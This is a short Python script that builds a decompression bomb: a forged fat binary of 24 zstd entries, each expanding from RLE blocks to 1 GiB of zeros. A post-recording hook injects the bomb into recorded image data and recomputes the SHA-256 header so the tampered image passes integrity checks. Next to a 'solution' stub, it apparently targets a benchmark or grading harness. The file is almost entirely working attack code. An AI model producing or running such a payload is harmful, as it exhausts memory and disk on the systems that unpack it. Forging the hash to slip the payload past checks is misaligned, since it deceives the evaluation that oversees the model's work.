"""Forges an image: a fat binary of 24 entries that unpack to a GiB of zeros each."""

import hashlib
import struct

import forge
import kit

BLOCK = 1 << 17
RLE, LAST = 1 << 1, 1
ENTRIES, RAW_BYTES = 24, 1 << 30
ZSTD, FATBIN = 0x8000, 2
CONTENT_AT = 56


def entry(frame):
    head = bytearray(64)
    struct.pack_into("<HHIQI", head, 0, 2, 0x101, 64, len(frame), len(frame))
    struct.pack_into("<Q", head, 40, ZSTD)
    struct.pack_into("<Q", head, 56, RAW_BYTES)
    return bytes(head) + frame


def zeros():
    """A zstd frame (RFC 8878): one repeated byte a block."""
    frame = struct.pack("<IBQ", 0xFD2FB528, 0xE0, RAW_BYTES)
    block = (BLOCK << 3 | RLE).to_bytes(3, "little") + b"\0"
    last = (BLOCK << 3 | RLE | LAST).to_bytes(3, "little") + b"\0"
    return frame + block * (RAW_BYTES // BLOCK - 1) + last


def change(elements):
    entries = entry(forge.padded(zeros())) * ENTRIES
    image = struct.pack("<IHHQ", 0xBA55ED50, 1, 16, len(entries)) + entries
    changed = []
    for kind, payload in elements:
        if kind == forge.IMAGE:
            made = forge.with_span(payload, CONTENT_AT, image)
            made[:32] = hashlib.sha256(image).digest()
            changed.append((kind, made))
        else:
            changed.append((kind, payload))
    return changed


def solution(x, y, n, rounds):
    kit.mix(x.data_ptr(), y.data_ptr(), n, rounds)


forge.after_recording(change)
